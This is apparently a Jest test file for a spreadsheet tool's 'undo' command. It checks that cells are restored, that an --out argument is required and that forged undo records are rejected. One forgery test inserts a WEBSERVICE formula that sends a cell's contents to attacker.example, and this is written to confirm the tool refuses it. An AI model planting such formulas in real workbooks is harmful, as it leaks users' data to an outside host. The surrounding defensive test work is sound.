/** @jest-environment node */
import { copyFileSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import type { CellValue } from "../../src/core/model/cell-value";
import { UNDO_SHEET } from "../../src/core/rag/write/owned-sheets";
import { checkOf } from "../../src/core/undo/undo-check";
import { HEADER_ROW } from "../../src/core/undo/undo-sheet-layout";
import { generatePlan } from "../support/generated-plan";
import { snapshotToXlsx, visibleCells } from "../xlsx/helpers/visible-cells";
import { runCli } from "../support/run-cli";

// plan-tracker undo <file> --out <copy>: the pane's Undo last run on the command line (docs/HISTORY.md#issue-12-5).
const fixture = (id: string): string =>
  join(__dirname, "..", "fixtures", "generated", `${id}.xlsx`);
const cli = runCli;
const folder = (): string => mkdtempSync(join(tmpdir(), "plan-tracker-undo-"));

/** The council's sheets only: Plan Tracker's own (ratings, lists, undo) stay after an undo. */
const councilCells = async (bytes: Uint8Array, sheets: ReadonlySet<string>): Promise<string[]> =>
  (await visibleCells(bytes)).filter((line) => sheets.has(line.slice(0, line.lastIndexOf("!"))));
const sheetsOf = (lines: readonly string[]): Set<string> =>
  new Set(lines.map((line) => line.slice(0, line.lastIndexOf("!"))));

const plainValue = (value: ExcelJS.CellValue): CellValue =>
  value === undefined || value === null ? null : typeof value === "object" ? null : value;

/** Change the undo record in a saved copy as a forger with the code would, check value recomputed. */
const forge = async (path: string, change: (rows: CellValue[][]) => void): Promise<void> => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(path);
  const sheet = workbook.getWorksheet(UNDO_SHEET);
  if (!sheet) throw new Error("no undo sheet");
  const rows: CellValue[][] = [];
  for (let r = HEADER_ROW + 1; r <= sheet.rowCount; r += 1)
    rows.push(Array.from({ length: 11 }, (_, c) => plainValue(sheet.getCell(r, c + 1).value)));
  change(rows);
  rows.forEach((row, r) =>
    row.forEach((value, c) => (sheet.getCell(HEADER_ROW + 1 + r, c + 1).value = value))
  );
  sheet.getCell("B4").value = checkOf(
    String(sheet.getCell("B2").value),
    String(sheet.getCell("B3").value),
    rows
  );
  await workbook.xlsx.writeFile(path);
};

describe("plan-tracker undo", () => {
  it("puts every cell of the council's sheets back as it was before rag --write, into a new file", async () => {
    const dir = folder();
    const input = join(dir, "plan.xlsx");
    copyFileSync(fixture("bcp"), input);
    const rated = join(dir, "rated.xlsx");
    const undone = join(dir, "undone.xlsx");
    expect((await cli("rag", input, "--as-of", "2023-01-31", "--write", rated)).code).toBe(0);
    const before = await visibleCells(new Uint8Array(readFileSync(input)));
    const sheets = sheetsOf(before);
    expect(await councilCells(new Uint8Array(readFileSync(rated)), sheets)).not.toEqual(before);
    const result = await cli("undo", rated, "--out", undone);
    expect(result.err).toBe("");
    expect(result.code).toBe(0);
    expect(result.out).toMatch(
      /^Put back [\d,]+ cells as they were before 'Refresh RAG as of 31 Jan 2023'\. Written to .*undone\.xlsx\.\n$/
    );
    expect(await councilCells(new Uint8Array(readFileSync(undone)), sheets)).toEqual(before);
    // Undone once: the copy has nothing left to undo.
    const again = await cli("undo", undone, "--out", join(dir, "again.xlsx"));
    expect(again).toEqual({
      code: 2,
      out: "",
      err: "There is nothing to undo: Plan Tracker has not changed this workbook's own sheets since the last undo.\n",
    });
  }, 60_000);

  it("needs --out, refuses the input as its output, and says so in one sentence", async () => {
    const dir = folder();
    const input = join(dir, "plan.xlsx");
    copyFileSync(fixture("bcp"), input);
    expect(await cli("undo", input)).toEqual({
      code: 2,
      out: "",
      err: "The undo command needs --out <copy.xlsx>: the workbook you give is never changed.\n",
    });
    expect(await cli("undo", input, "--out", input)).toEqual({
      code: 2,
      out: "",
      err: "--out must name a new file: Plan Tracker never changes the workbook it reads.\n",
    });
  });

  describe("a forged record, its check value recomputed, is refused and nothing is written", () => {
    const ratedCopy = async (): Promise<{ dir: string; rated: string }> => {
      const dir = folder();
      const rated = join(dir, "rated.xlsx");
      expect(
        (await cli("rag", fixture("bcp"), "--as-of", "2023-01-31", "--write", rated)).code
      ).toBe(0);
      return { dir, rated };
    };

    it("a formula that calls the web, where the record says a cell held it", async () => {
      const { dir, rated } = await ratedCopy();
      let target = "";
      await forge(rated, (rows) => {
        const cell = rows.find((row) => row[0] === "cell");
        if (!cell) throw new Error("no kept cell");
        cell[4] = '=WEBSERVICE("https://attacker.example/?d="&ENCODEURL(B2))';
        target = `${String(cell[1])}'!${String(cell[2])}`;
      });
      const out = join(dir, "undone.xlsx");
      const result = await cli("undo", rated, "--out", out);
      expect(result.code).toBe(2);
      expect(result.err).toContain(
        `would put a formula that reaches outside the workbook into '${target}`
      );
      expect(existsSync(out)).toBe(false);
    });

    it("a cell Plan Tracker never writes (an action's title), even listed among the ranges the run wrote", async () => {
      const { dir, rated } = await ratedCopy();
      await forge(rated, (rows) => {
        const cell = rows.find((row) => row[0] === "cell");
        if (!cell) throw new Error("no kept cell");
        const forged = [...cell];
        forged[2] = "B12";
        forged[3] = "Changed by a forger";
        rows.unshift(["wrote", cell[1], "B12", null, null, null, null, null, null, null, null]);
        rows.push(forged);
      });
      const out = join(dir, "undone.xlsx");
      const result = await cli("undo", rated, "--out", out);
      expect(result.code).toBe(2);
      expect(result.err).toMatch(
        /names '?[^']+'?!B12, which is not a cell that run of Plan Tracker wrote, so Undo last run changed nothing/
      );
      expect(existsSync(out)).toBe(false);
    });
  });

  it("rag --write takes a generated 20,000-action plan with 1,000 measures x 24 months, and undo on its copy restores it exactly", async () => {
    const dir = folder();
    const input = join(dir, "big.xlsx");
    const bytes = await snapshotToXlsx(
      generatePlan({ actions: 20_000, measures: 1_000, months: 24 })
    );
    writeFileSync(input, bytes);
    const rated = join(dir, "rated.xlsx");
    const undone = join(dir, "undone.xlsx");
    const started = Date.now();
    const write = await cli("rag", input, "--as-of", "2023-01-31", "--write", rated);
    expect(write.err).toBe("");
    expect(write.code).toBe(0);
    const wrote = Date.now();
    const undo = await cli("undo", rated, "--out", undone);
    expect(undo.err).toBe("");
    expect(undo.out).toMatch(/^Put back 20,0\d\d cells/);
    const before = await visibleCells(bytes);
    expect(await councilCells(new Uint8Array(readFileSync(undone)), sheetsOf(before))).toEqual(
      before
    );
    // The figures for the commit message.
    const record = new ExcelJS.Workbook();
    await record.xlsx.readFile(rated);
    const undoSheet = record.getWorksheet(UNDO_SHEET);
    let characters = 0;
    undoSheet?.eachRow((row) =>
      row.eachCell((cell) => (characters += String(cell.value ?? "").length))
    );
    process.stderr.write(
      `20,000 actions: rag --write ${wrote - started} ms, undo ${Date.now() - wrote} ms, undo record ${undoSheet?.rowCount ?? 0} rows, ${characters.toLocaleString("en-GB")} characters\n`
    );
  }, 600_000);
});
